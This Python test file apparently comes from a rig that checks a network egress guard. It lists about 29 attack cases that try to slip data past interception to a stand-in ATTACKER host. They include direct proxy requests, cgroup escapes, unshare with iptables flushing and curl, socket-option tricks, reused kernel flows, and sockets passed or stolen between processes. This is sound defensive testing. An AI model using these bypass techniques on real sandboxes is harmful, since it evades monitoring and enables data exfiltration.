"""Class 6: round the interception."""

import pathlib
import socket
import subprocess

from rig.attacks import ATTACKER, Attack, AttackCase, attacks
from rig.cases import expand
from rig.internet import MACHINE, RESOLVER, USER, WWW

# Every TCP port that something listens on at 127.0.0.1: among them, when guarded, the proxy's.
LISTENERS = """
def listeners():
    rows = [line.split() for line in open("/proc/net/tcp").readlines()[1:]]
    return [int(row[1].split(":")[1], 16) for row in rows if row[3] == "0A"]
def ask_them(text):
    for port in listeners():
        for host in ("127.0.0.1", "localhost", "0.0.0.0", "127.1.2.3", os.environ["MACHINE"]):
            try:
                s = socket.create_connection((host, port), 1); s.sendall(text.encode()); s.recv(1000)
                s.sendall(mark); s.recv(1000)
            except OSError: pass
"""

SOURCE_PORT = 40999


def send_from(sock, to, marker):
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind((MACHINE, SOURCE_PORT))
    sock.connect(to)
    sock.send(b"before")
    sock.settimeout(3)
    sock.recv(100)
    sock.close()


def udp_flow_before(port):
    """The guard's kernel already knows a flow of these very addresses and ports."""
    def prepare(case, marker):
        send_from(socket.socket(socket.AF_INET, socket.SOCK_DGRAM), (ATTACKER, port), marker)
    return prepare


def tcp_flow_before(case, marker):
    send_from(socket.socket(), (ATTACKER, 443), marker)


def inherited(kind, port):
    """A socket that was connected before the guard started, handed down as descriptor."""
    def keywords(case):
        case.handed = socket.socket(socket.AF_INET, kind)
        case.handed.connect((ATTACKER, port))
        return {"pass_fds": [case.handed.fileno()]}
    return keywords


def attacker_calls(port, datagram=False):
    """The attacker connects to the guarded machine, and waits for what it says."""
    def during(case, marker):
        device = "udp" if datagram else "tcp"
        script = (f"for i in $(seq 50); do exec 3<>/dev/{device}/{MACHINE}/{port} && echo hello >&3 && "
                  "timeout 1 head -c 20 <&3 | grep -q . && exit; sleep 0.05; done 2>/dev/null")
        try:
            case.net.attacker.run("timeout", "8", "bash", "-c", script)
        except Exception:  # it never came through: that is what the guard is for
            pass
    return during


HELPER = r"""
import os, socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM if kind == "datagram" else socket.SOCK_STREAM)
if kind == "connected": s.connect((attacker, 4444))
door = socket.socket(socket.AF_UNIX); door.bind("\0" + name); door.listen(1)
print("up", flush=True)
c, _ = door.accept()
if kind in ("connected", "unconnected"):
    socket.send_fds(c, [b"x"], [s.fileno()])
else:
    said, fds, _, _ = socket.recv_fds(c, 100, 1)
    s = socket.socket(fileno=fds[0]); s.settimeout(2)
    try: s.connect((attacker, 4444)); s.sendall(said)
    except OSError: pass
    c.send(b"x")
c.recv(1)
"""


def accomplice(kind):
    """A process of the same user that nobody guards hands a socket over, or takes and uses one."""
    def prepare(case, marker):
        uid, gid, _ = USER
        code = f"kind, attacker, name = {kind!r}, {ATTACKER!r}, {marker!r}\n" + HELPER
        case.accomplice = subprocess.Popen(["/usr/bin/python3", "-c", code], user=uid, group=gid,
                                           extra_groups=[], stdout=subprocess.PIPE)
        case.addCleanup(case.accomplice.stdout.close)
        case.addCleanup(case.accomplice.wait)
        case.addCleanup(case.accomplice.kill)
        case.accomplice.stdout.readline()
    return prepare


TAKE = """
c = socket.socket(socket.AF_UNIX); c.connect("\\0" + MARKER)
_, (fd,), _, _ = socket.recv_fds(c, 10, 1); s = socket.socket(fileno=fd)
"""
GIVE = """
c = socket.socket(socket.AF_UNIX); c.connect("\\0" + MARKER)
socket.send_fds(c, [mark], [s.fileno()]); c.recv(1); time.sleep(0.1)
"""


def tracing_restricted():
    path = pathlib.Path("/proc/sys/kernel/yama/ptrace_scope")
    if path.exists() and path.read_text().strip() != "0":
        return "processes of one user may not trace each other here"
    return None


PASSED_IN = ("a socket that an unguarded process made is not of the guarded cgroup, whoever uses it; it "
             "takes an accomplice outside")

BIND = f"""
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("{MACHINE}", {SOURCE_PORT}))
"""

ESCAPE = f"""
for path in os.popen("find /sys/fs/cgroup -name cgroup.procs 2>/dev/null").read().split():
    try: open(path, "w").write(str(os.getpid()))
    except OSError: pass
"""

INHERITED = """
for fd in range(3, 256):
    try: os.write(fd, mark)
    except OSError: pass
time.sleep(0.1)"""

ATTACKS = [
    Attack("straight to the proxy, as if it were one", LISTENERS + """
ask_them(f"GET http://www.evil.example/{MARKER} HTTP/1.1\\r\\nHost: www.evil.example\\r\\n\\r\\n"); tcp()"""),
    Attack("straight to the proxy, CONNECT", LISTENERS + f"""
ask_them("CONNECT {ATTACKER}:443 HTTP/1.1\\r\\nHost: {ATTACKER}:443\\r\\n\\r\\n"); tcp()"""),
    Attack("straight to the proxy, allowed Host", LISTENERS + """
ask_them("GET / HTTP/1.1\\r\\nHost: www.allowed.example\\r\\n\\r\\n"); tcp()"""),
    Attack("straight to the name proxy", """
for line in open("/proc/net/udp").readlines()[1:]:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.5)
    try:
        s.sendto(query(MARKER + ".evil.example"), ("127.0.0.1", int(line.split()[1].split(":")[1], 16)))
        s.recv(100)
    except OSError: pass
udp(4444)""", logged=False),
    Attack("out of the control group", ESCAPE + "tcp()"),
    Attack("out of the control group, by a child", ESCAPE + """
if os.fork() == 0: tcp(); os._exit(0)
os.wait()"""),
    Attack("a control group namespace", "unshare -UrC sh -c 'for f in $(find /sys/fs/cgroup -name "
           "cgroup.procs 2>/dev/null); do echo $$ >$f; done' 2>/dev/null; "
           f"curl -sS -m 4 http://{ATTACKER}/$MARKER", shell=True),
    Attack("a user namespace", f"unshare -Ur curl -sS -m 4 http://{ATTACKER}/$MARKER || "
           f"curl -sS -m 4 http://{ATTACKER}/$MARKER", shell=True),
    Attack("packet filter flushed in a user namespace",
           "unshare -Ur sh -c 'iptables -t nat -F; iptables -F; nft flush ruleset; "
           f"curl -sS -m 4 http://{ATTACKER}/$MARKER' 2>/dev/null || "
           f"curl -sS -m 4 http://{ATTACKER}/$MARKER", shell=True),
    Attack("packet mark", """
s = socket.socket()
for mark_value in (0, 1, 0xffffffff, 0x1337):
    try: s.setsockopt(socket.SOL_SOCKET, 36, struct.pack("I", mark_value))
    except OSError: pass
s.connect((ATTACKER, 4444)); s.sendall(mark); s.recv(10)"""),
    Attack("bound to the device", """
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"m0\\0")
s.connect((ATTACKER, 4444)); s.sendall(mark); s.recv(10)""", logged=False),
    Attack("datagram bound to the device", """
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"m0\\0")
s.sendto(mark, (ATTACKER, 53)); s.recv(10)""", logged=False),
    Attack("low level socket options", """
s = socket.socket()
for level, option, value in ((0, 50, struct.pack("i", socket.if_nametoindex("m0") << 24)), (0, 19, b"\\1\\0\\0\\0"),
                             (0, 15, b"\\1\\0\\0\\0"), (1, 12, b"\\6\\0\\0\\0"), (0, 1, b"\\x10\\0\\0\\0")):
    try: s.setsockopt(level, option, value)
    except OSError: pass
s.connect((ATTACKER, 4444)); s.sendall(mark); s.recv(10)""", logged=False),
    Attack("bound to the machine's address", f"""
s = socket.socket(); s.bind(("{MACHINE}", 0)); s.connect((ATTACKER, 4444)); s.sendall(mark); s.recv(10)"""),
    Attack("bound to a shared port", """
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1); s.bind(("", 40888))
s.connect((ATTACKER, 4444)); s.sendall(mark); s.recv(10)"""),
    Attack("one source port, an allowed host first", f"""
s = socket.socket()
{BIND}
s.connect(("{WWW}", 7000)); s.sendall(b"x"); s.recv(1)
s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0)); s.close()
s = socket.socket()
{BIND}
s.connect((ATTACKER, 443)); s.sendall(mark); s.recv(10)"""),
    Attack("one source port, the resolver first", f"""
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
{BIND}
s.sendto(query("www.allowed.example"), ("{RESOLVER}", 53)); s.recv(500)
s.sendto(query(MARKER + ".evil.example"), (ATTACKER, 53)); s.recv(500)"""),
    Attack("a TCP flow the kernel already knows", f"""
s = socket.socket()
{BIND}
s.connect((ATTACKER, 443)); s.sendall(mark); s.recv(10)""", prepare=tcp_flow_before, logged=False),
    Attack("a UDP flow the kernel already knows", f"""
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
{BIND}
s.connect((ATTACKER, 53)); s.send(query(MARKER + ".evil.example")); s.recv(500)""",
           prepare=udp_flow_before(53), logged=False),
    Attack("a UDP flow the kernel already knows, elsewhere", f"""
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
{BIND}
s.connect((ATTACKER, 443)); s.send(mark); s.recv(500)""", prepare=udp_flow_before(443), logged=False),
    Attack("a connection handed down", INHERITED, keywords=inherited(socket.SOCK_STREAM, 4444),
           logged=False, silent=False),
    Attack("a datagram socket handed down", INHERITED, keywords=inherited(socket.SOCK_DGRAM, 4444),
           logged=False, silent=False),
    Attack("a connection passed in by another process", TAKE + "s.sendall(mark); s.recv(10)",
           prepare=accomplice("connected"), logged=False, silent=False, open=PASSED_IN),
    Attack("a socket passed in by another process", TAKE + "s.connect((ATTACKER, 4444)); s.sendall(mark); "
           "s.recv(10)", prepare=accomplice("unconnected"), logged=False, silent=False, open=PASSED_IN),
    Attack("a connection taken from another process", """
libc = ctypes.CDLL(None, use_errno=True)
for entry in os.listdir("/proc"):
    try:
        if not entry.isdigit() or int(entry) == os.getpid() or \\
                b"door.listen" not in open(f"/proc/{entry}/cmdline", "rb").read(): continue
    except OSError: continue
    pidfd = libc.syscall(434, int(entry), 0)
    for number in range(3, 10):
        fd = libc.syscall(438, pidfd, number, 0)  # pidfd_getfd
        try:
            if fd >= 0: os.write(fd, mark)
        except OSError: pass
time.sleep(0.1)""", prepare=accomplice("connected"), logged=False, silent=False, needs=tracing_restricted),
    Attack("a socket passed out", "s = socket.socket()" + GIVE, prepare=accomplice("stream")),
    Attack("a datagram socket passed out", "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)" + GIVE,
           prepare=accomplice("datagram"), logged=False),
    Attack("reply to a connection from outside", """
a = socket.create_server(("", 5000)); a.settimeout(6); s, _ = a.accept(); s.sendall(mark); s.recv(10)
time.sleep(0.1)""", during=attacker_calls(5000), logged=False, silent=False),
    Attack("reply to a datagram from outside", """
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("", 5001)); s.settimeout(6)
_, peer = s.recvfrom(100); s.sendto(mark, peer); time.sleep(0.1)""",
           during=attacker_calls(5001, datagram=True), logged=False, silent=False),
]


@expand
class Round(AttackCase):
    @attacks(ATTACKS)
    def attack(self, attack):
        self.carry_out(attack)

    def tearDown(self):
        handed = getattr(self, "handed", None)
        if handed:
            handed.close()
        # Forget the flows of this test: the next one makes its own.
        subprocess.run(["conntrack", "-F"], check=False, capture_output=True)
